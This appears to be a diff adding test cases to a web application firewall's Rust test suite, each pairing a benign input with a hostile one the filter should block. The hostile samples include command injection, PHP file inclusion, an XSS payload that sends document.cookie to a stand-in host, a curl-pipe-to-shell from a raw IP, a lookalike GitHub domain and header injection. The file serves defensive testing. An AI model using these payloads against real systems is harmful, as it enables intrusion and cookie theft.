@@ -6,6 +6,47 @@ use crate::waf::{Settings, Verdict};
 /// Name of a JSON member, a value that passes under it, and one that does not.
 const PAIRS: &[(&str, &str, &str)] = &[
     (
+        "text",
+        "const { exec } = require('child_process');\nexec('git rev-parse HEAD', (err, stdout) => log(stdout));",
+        "const { exec } = require('child_process');\nexec('whoami', (err, stdout) => log(stdout));",
+    ),
+    (
+        "text",
+        "$sql = \"SELECT * FROM users WHERE id = \" . $_GET['id'];",
+        "include $_GET['id'];",
+    ),
+    (
+        "text",
+        "<img src=\"foo.jpg\" onerror=\"this.onerror=null;this.src='/img/none.png'\">",
+        "<img src=\"foo.jpg\" onerror=\"this.onerror=null;this.src='//a.example/'+document.cookie\">",
+    ),
+    (
+        "text",
+        "rm -f *.o app; find . -name '*~' -delete",
+        "rm -f *.o app; find / -name '*~'; id",
+    ),
+    (
+        "text",
+        "curl -fsSL https://get.docker.com | sh",
+        "curl -fsSL http://203.0.113.5/x | sh",
+    ),
+    (
+        "text",
+        "for /f \"tokens=2\" %%a in ('hostname') do set name=%%a",
+        "for /f \"tokens=2\" %a in ('hostname') do set name=%a",
+    ),
+    ("text", "for %%f in (*.jpg) do (", ";for %f in (*.jpg) do ("),
+    (
+        "q",
+        "https://github.com/Seldaek/monolog/blob/main/src/Monolog/Handler/StreamHandler.php",
+        "https://github.com.evil.example/Seldaek/monolog/blob/main/src/Monolog/Handler/StreamHandler.php",
+    ),
+    (
+        "text",
+        "name\n  Location: http://docs.example.org/",
+        "name\nLocation: http://docs.example.org/",
+    ),
+    (
         "embed_code",
         "<script src=\"https://cdn.example.com/chat.js\"></script>",
         "<script>alert(1)</script>",
